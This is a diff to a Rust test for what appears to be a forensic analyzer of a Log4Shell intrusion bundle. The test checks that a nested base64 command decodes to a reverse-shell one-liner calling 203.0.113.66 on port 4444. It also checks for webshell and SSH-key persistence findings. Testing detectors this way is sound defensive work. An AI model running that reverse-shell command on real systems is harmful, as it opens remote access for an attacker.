@@ -121,6 +121,13 @@ fn log4shell_bundle_tells_the_whole_story() {
         jndi["jndi"]["command"].as_str().unwrap().contains("{base64,-d}|{bash,-i}"),
         "decoded command: {jndi:#}"
     );
+    // The command inside the JNDIExploit path is itself base64 to shell: decoded to the end.
+    assert!(
+        b["log_hits"].as_array().unwrap().iter().any(|h| h["commands"]
+            .as_array()
+            .is_some_and(|c| c.iter().any(|c| c == "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"))),
+        "nested base64 command not decoded"
+    );
     assert!(b["log_hits"].as_array().unwrap().iter().any(|h| h["jndi"]["host"] == "198.51.100.23"));
     finding(b, "file.webshell.jsp", "/usr/local/tomcat/webapps/ROOT/assets/health.jsp");
     finding(b, "file.persistence.ssh-keys", "/root/.ssh/authorized_keys");
